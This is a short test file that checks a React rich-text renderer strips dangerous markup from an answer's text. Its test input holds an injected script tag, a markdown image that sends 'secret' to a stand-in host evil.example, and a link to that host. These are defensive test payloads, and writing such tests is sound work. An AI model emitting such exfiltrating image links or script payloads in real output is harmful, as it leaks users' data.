import { renderToStaticMarkup } from "react-dom/server";
import { describe, expect, it } from "vitest";
import { RichText } from "./rich-text.tsx";

describe("the markup of an answer", () => {
  it("holds no image, link or element that the text asked for", () => {
    const html = renderToStaticMarkup(
      <RichText
        text={
          "**Hi** `code` <script>alert(1)</script> ![x](https://evil.example/?d=secret) <a href='//evil.example'>go</a>"
        }
      />,
    );
    expect(html).toContain("<strong>Hi</strong>");
    expect(html).toContain("<code>code</code>");
    expect(html).not.toMatch(/<(script|img|a|iframe|form|svg)\b/);
  });
});
